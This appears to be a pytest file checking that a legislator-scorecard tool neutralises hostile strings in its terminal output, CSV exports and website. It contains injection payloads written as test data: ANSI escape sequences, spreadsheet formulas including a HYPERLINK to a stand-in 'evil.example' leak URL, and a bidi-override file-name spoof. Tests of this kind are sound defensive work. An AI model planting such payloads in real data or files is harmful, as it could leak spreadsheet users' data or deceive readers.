"""Corpus, hostile strings: data text that would attack the terminal, a spreadsheet or a
reader of the site, and must reach each only as harmless text."""

from __future__ import annotations

import csv
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from scorecard.safetext import (
    clean_cell,
    for_spreadsheet,
    for_terminal,
    from_spreadsheet,
    unsafe_characters,
)

from . import archives as A
from .corpus import BUILD, VALIDATE, Case, check, invoke
from .test_bad_input import replace

ESC = "\x1b]0;pwned\x07\x1b[31m"  # set the window title, then turn the text red
BRIEF = ["brief", "Ada", "--platform", "{root}/platform.yaml"]
COMPARE = ["compare", "s1", "s2", "--platform", "{root}/platform.yaml"]
LEGISLATORS = "votes/legislators.csv"
ROSTER = str(A.OPENSTATES.parent / "roster")


def name(new: str, old: str = "Ada Senator") -> Callable[[Path], None]:
    """The first cell holding ``old`` (the name column) replaced by ``new``, CSV-quoted."""
    return replace(LEGISLATORS, old, '"' + new.replace('"', '""') + '"')


def party(new: str, old: str = "Republican") -> Callable[[Path], None]:
    return replace(LEGISLATORS, old, '"' + new.replace('"', '""') + '"')


def chain(*steps: Callable[[Path], None]) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        for step in steps:
            step(root)
    return setup


def csv_rows(root: Path, file: str) -> list[dict[str, str]]:
    with (root / "output" / "data" / file).open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def cells_start_safely(file: str) -> Callable[[Path], None]:
    def then(root: Path) -> None:
        rows = csv_rows(root, file)
        cells = [v for r in rows for v in r.values()]
        assert cells
        risky = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
                 or (c.startswith("-") and not _number(c))]
        assert not risky, risky
        names = {r["name"] for r in rows}
        assert "'=HYPERLINK(\"http://evil.example/?leak\",\"Ada\")" in names, names
    return then


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def no_character_in_outputs(chars: str) -> Callable[[Path], None]:
    def then(root: Path) -> None:
        files = [p for p in (root / "output").rglob("*")
                 if p.is_file() and p.suffix in (".html", ".csv", ".json", ".svg")]
        assert len(files) > 5
        for p in files:
            text = p.read_text(encoding="utf-8")
            assert not any(c in text for c in chars), p
    return then


def legiscan_name(new: str) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        members = A.legiscan_members()
        key = "NY/2023-2024_General_Assembly/people/20299.json"
        doc = json.loads(members[key])
        doc["person"]["name"] = new
        members[key] = json.dumps(doc).encode()
        A.write_zip(root / "NY_2023-2024.zip", members)
    return setup


def legiscan_member(member: str) -> Callable[[Path], None]:
    def setup(root: Path) -> None:
        members = A.legiscan_members()
        members[member] = b"not json"
        A.write_zip(root / "NY_2023-2024.zip", members)
    return setup


def unresolved_names_are_text(root: Path) -> None:
    """unresolved.csv (opened by people to map names) neutralises the formula, and a
    second import reads it back unchanged."""
    path = root / "votes" / "unresolved.csv"
    with path.open(encoding="utf-8", newline="") as fh:
        cells = [v for r in csv.DictReader(fh) for v in r.values()]
    assert "'" + HYPERLINK in cells, cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))], cells
    before = path.read_bytes()
    result = invoke(root, LS)
    assert result.exit_code == 0, result.output
    assert path.read_bytes() == before


HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Ada")'
LS = ["import", "legiscan", "{root}/NY_2023-2024.zip", "--into", "{root}/votes",
      "--roster", ROSTER]

CASES = [
    # ---- the terminal
    Case("brief-escape-in-name", name(f"Ada {ESC}Senator"), BRIEF, ("Ada",), exit_code=0,
         absent=("\x1b", "\x07")),
    Case("compare-escape-in-name", name(f"Ada {ESC}Senator"), COMPARE, ("Ada",), exit_code=0,
         absent=("\x1b", "\x07")),
    Case("brief-escape-in-query", lambda root: None,
         ["brief", f"Zed{ESC}", "--platform", "{root}/platform.yaml"],
         ("No legislator matches",), absent=("\x1b", "\x07")),
    Case("validate-escape-warning", name(f"Ada {ESC}Senator"), VALIDATE,
         ("legislators.csv, row 2", "U+001B", "U+0007"), exit_code=0,
         absent=("\x1b", "\x07")),
    Case("unresolved-name-escape", legiscan_name(f"Walter {ESC}Pembrook"), LS,
         ("Walter \\x1b]0;pwned\\x07\\x1b[31mPembrook",), exit_code=0,
         absent=("\x1b", "\x07")),
    Case("formula-in-unresolved-csv", legiscan_name(HYPERLINK), LS, ("Imported",),
         exit_code=0, then=lambda root: unresolved_names_are_text(root)),
    Case("archive-member-name-escape",
         legiscan_member("NY/2023-2024_General_Assembly/vote/\x1b[2J\x1b]0;x\x07.json"), LS,
         ("NY_2023-2024.zip: NY/2023-2024_General_Assembly/vote/\\x1b[2J", "not valid JSON"),
         absent=("\x1b", "\x07")),
    # ---- spreadsheets
    Case("formula-name-and-party", chain(name(HYPERLINK), party("=1+1"),
                                         name("@SUM(A1)", "Bo Senator"),
                                         name("+cmd", "Cy Senator"),
                                         name("-2+3", "Di Member")),
         BUILD, ("Scored",), exit_code=0, then=cells_start_safely("scores.csv")),
    Case("formula-in-receipts", chain(name(HYPERLINK), party("=1+1")), BUILD, ("Scored",),
         exit_code=0, then=cells_start_safely("receipts.csv")),
    # ---- the site
    Case("bidi-override-in-name", name("Ada \u202egnp.exe\u202c Senator"), BUILD,
         ("legislators.csv, row 2", "U+202E"), exit_code=0,
         then=no_character_in_outputs("\u202e\u202c")),
    Case("control-characters-in-name", name(f"Ada {ESC}Senator"), BUILD, ("Scored",),
         exit_code=0, absent=("\x1b",), then=no_character_in_outputs("\x1b\x07")),
    Case("mathtext-party", party("$\\frac{a}$"), BUILD, ("Scored",), exit_code=0),
    Case("mathtext-party-unbalanced", party("$x^$ \\$ $"), BUILD, ("Scored",), exit_code=0),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_string(case: Case, tmp_path: Path) -> None:
    check(case, tmp_path)


def test_case_ids_are_unique() -> None:
    assert len({c.id for c in CASES}) == len(CASES)


@pytest.mark.parametrize("text, shown", [
    ("plain, tab\tand\nnewline", "plain, tab\tand\nnewline"),
    ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
    ("bell\x07 cr\r nul\x00 del\x7f c1\x9b", "bell\\x07 cr\\x0d nul\\x00 del\\x7f c1\\x9b"),
    ("evil \u202egnp.exe", "evil \\u202egnp.exe"),
])
def test_for_terminal(text: str, shown: str) -> None:
    assert for_terminal(text) == shown


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("'=x", "''=x"), ("''@x", "'''@x"),
    ("Ada", "Ada"), ("'quoted'", "'quoted'"), ("", ""), (-5.0, -5.0), (3, 3),
])
def test_for_spreadsheet_round_trips(value: object, written: object) -> None:
    assert for_spreadsheet(value) == written
    if isinstance(value, str):
        assert from_spreadsheet(str(written)) == value


def test_clean_cell() -> None:
    assert clean_cell("A\u202eda\x1b[1m\tB\n") == "Ada[1m\tB\n"
    assert unsafe_characters("A\u202e\u202e\x00") == ["U+202E", "U+0000"]
